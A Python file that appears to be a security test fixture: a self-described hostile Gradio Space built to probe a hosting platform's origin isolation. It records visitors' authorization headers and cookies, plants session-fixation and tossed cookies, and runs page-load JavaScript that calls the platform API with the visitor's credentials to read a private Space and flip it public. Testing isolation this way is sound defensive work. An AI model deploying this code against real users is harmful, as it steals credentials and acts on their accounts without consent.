"""A hostile Gradio Space: everything it can try against its visitors, reported back.

* ``/probe/seen``: the ``Authorization``, ``x-hf-authorization`` and ``Cookie`` headers of every
  request the app ever received (Gradio's own API calls included), and the request count.
* ``/probe/echo``: the headers and cookies of this request.
* ``/probe/set-cookies``: answers with ``Set-Cookie`` headers aimed at the platform (``Domain=``,
  the platform session's name) and one cookie of its own.
* the Gradio page (and ``/probe/page``) runs ``PROBE_JS`` on load and leaves its findings in
  ``window.__probe``: ``document.cookie``, cookie tossing, the platform's API called with the
  visitor's credentials (read private data, make a private Space public), framing the platform.
"""

import json
import os
from collections.abc import Awaitable, Callable

import gradio as gr
import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, JSONResponse, Response

TARGET = os.environ.get("PROBE_TARGET", "admin/origin-victim")
SEEN: list[dict[str, str]] = []
COUNT = [0]

PROBE_JS = """
<script>
(async () => {
  if (window.__probeStarted) return;
  window.__probeStarted = true;
  const TARGET = __TARGET__;
  const r = {origin: self.origin, href: location.href};
  const platform = location.protocol + "//localhost:" + location.port;
  r.platform = platform;
  const read = () => { try { return document.cookie; } catch (e) { return "error:" + e.name; } };
  r.cookie_before = read();
  try {
    document.cookie = "spaceyard_session=js-fixation; domain=localhost; path=/";
    document.cookie = "tossed_js=1; domain=localhost; path=/";
    document.cookie = "spaceyard_session=js-own; path=/";
  } catch (e) { r.toss_error = e.name; }
  r.cookie_after = read();
  async function probe(url, opts) {
    try {
      const resp = await fetch(url, opts);
      let body = "";
      try { body = await resp.text(); } catch (e) { body = "unreadable"; }
      return {status: resp.status, body: body.slice(0, 2000)};
    } catch (e) { return {error: String(e)}; }
  }
  const creds = {credentials: "include"};
  r.whoami_platform = await probe(platform + "/api/whoami-v2", creds);
  r.whoami_relative = await probe("/api/whoami-v2", creds);
  r.private_info = await probe(platform + "/api/spaces/" + TARGET, creds);
  r.private_files = await probe(platform + "/api/spaces/" + TARGET + "/tree/main", creds);
  const body = JSON.stringify({private: false});
  r.make_public_simple = await probe(platform + "/api/spaces/" + TARGET + "/settings",
    {method: "PUT", credentials: "include", mode: "no-cors", headers: {"content-type": "text/plain"}, body});
  r.make_public_json = await probe(platform + "/api/spaces/" + TARGET + "/settings",
    {method: "PUT", credentials: "include", headers: {"content-type": "application/json"}, body});
  r.set_cookies = await probe("/probe/set-cookies", creds);
  r.echo = await probe("/probe/echo", creds);
  r.cookie_final = read();
  const frame = document.createElement("iframe");
  frame.id = "probe-platform";
  frame.src = platform + "/spaces";
  document.body.appendChild(frame);
  window.__probe = r;
})();
</script>
""".replace("__TARGET__", json.dumps(TARGET))

app = FastAPI()


@app.middleware("http")
async def record(request: Request, call_next: Callable[[Request], Awaitable[Response]]) -> Response:
    COUNT[0] += 1
    seen = {k: v for k, v in request.headers.items() if k in ("authorization", "x-hf-authorization", "cookie")}
    if seen:
        SEEN.append({"path": request.url.path, **seen})
    return await call_next(request)


@app.get("/probe/seen")
def seen() -> JSONResponse:
    return JSONResponse({"requests": COUNT[0], "credentials": SEEN})


@app.get("/probe/echo")
def echo(request: Request) -> JSONResponse:
    return JSONResponse({"headers": dict(request.headers), "cookies": dict(request.cookies)})


@app.get("/probe/set-cookies")
def set_cookies() -> JSONResponse:
    response = JSONResponse({"ok": True})
    for cookie in (
        "spaceyard_session=header-fixation; Domain=localhost; Path=/",
        "spaceyard_session=header-own; Path=/",
        "tossed_header=1; Domain=localhost; Path=/",
        "probe_own=1; Path=/; SameSite=None; Secure; Partitioned",
    ):
        response.headers.append("set-cookie", cookie)
    return response


@app.get("/probe/page")
def page() -> HTMLResponse:
    return HTMLResponse(f"<!doctype html><html><head>{PROBE_JS}</head><body><h1>probe</h1></body></html>")


def whoami(request: gr.Request) -> str:
    """What Gradio's own request object exposes to app code about the visitor."""
    headers = dict(request.headers)
    return json.dumps({k: headers.get(k) for k in ("authorization", "x-hf-authorization", "cookie")})


with gr.Blocks(title="Origin probe") as demo:
    gr.Markdown("# 🕵️ Origin probe")
    out = gr.Textbox(label="Seen")
    gr.Button("Whoami").click(whoami, None, out, api_name="whoami")

app = gr.mount_gradio_app(app, demo, path="/", head=PROBE_JS)

if __name__ == "__main__":
    uvicorn.run(
        app,
        host=os.environ.get("GRADIO_SERVER_NAME", "127.0.0.1"),
        port=int(os.environ.get("GRADIO_SERVER_PORT", "7860")),
        log_level="warning",
    )
